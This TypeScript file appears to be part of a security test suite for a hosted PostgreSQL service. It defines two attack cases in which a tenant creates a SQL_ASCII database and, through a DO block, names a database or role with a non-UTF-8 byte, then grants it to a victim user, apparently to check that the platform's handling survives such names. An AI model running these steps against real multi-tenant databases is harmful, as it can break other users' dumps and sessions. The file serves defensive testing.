/** What a tenant calls by bytes that are no UTF-8: whoever reads such a name cannot write it again. */
import type { Attack, Attacker, Session } from '../attack.ts';
import { isMended } from './halfway.ts';
import { goesThough } from './leaving.ts';

const ascii = "TEMPLATE template0 ENCODING 'SQL_ASCII' LC_COLLATE 'C' LC_CTYPE 'C'";

/** A session in a database of its own in which every byte is a letter. */
async function inBytes(attacker: Attacker): Promise<Session> {
  const session = await attacker.direct('postgres');
  await session.done('SET ROLE NONE', `CREATE DATABASE evil_ascii ${ascii}`);
  const inside = await attacker.direct('evil_ascii');
  await inside.done("SET client_encoding = 'SQL_ASCII'", 'SET ROLE NONE');
  return inside;
}

/** Statements about a name that ends in a byte which begins no letter of UTF-8. */
const named = (...statements: readonly string[]): string =>
  `DO $$ DECLARE name text := quote_ident(convert_from('\\x6576696cff'::bytea, 'SQL_ASCII'));
   BEGIN ${statements.map((sql) => `EXECUTE ${sql};`).join(' ')} END $$`;

export const names: readonly Attack[] = [
  {
    name: 'a-database-whose-name-is-no-utf-8',
    position: 'direct',
    rule: 8,
    extra: { 'extra-user-roles': 'CREATEDB' },
    at: {
      joined: (attacker) =>
        goesThough(attacker, async (username) => {
          const session = await inBytes(attacker);
          await session.done(`CREATE DATABASE evil_named ${ascii}`);
          const inside = await attacker.direct('evil_named');
          await inside.done(
            'CREATE TABLE public.t (n int)',
            `GRANT SELECT ON public.t TO "${username}"`,
          );
          await inside.end();
          await session.done(named("'ALTER DATABASE evil_named RENAME TO ' || name"));
        }),
    },
  },
  {
    name: 'a-role-whose-name-is-no-utf-8-is-given-to-another',
    position: 'direct',
    rule: 8,
    versions: [16, 99],
    extra: { 'extra-user-roles': 'CREATEDB,CREATEROLE' },
    do: async (attacker) => {
      const { username } = attacker.world.victim.bag;
      const session = await inBytes(attacker);
      await session.done(
        named("'CREATE ROLE ' || name", `'GRANT ' || name || ' TO "${username}"'`),
      );
    },
    at: { hooked: (attacker) => isMended(attacker, attacker.world.victim) },
  },
];
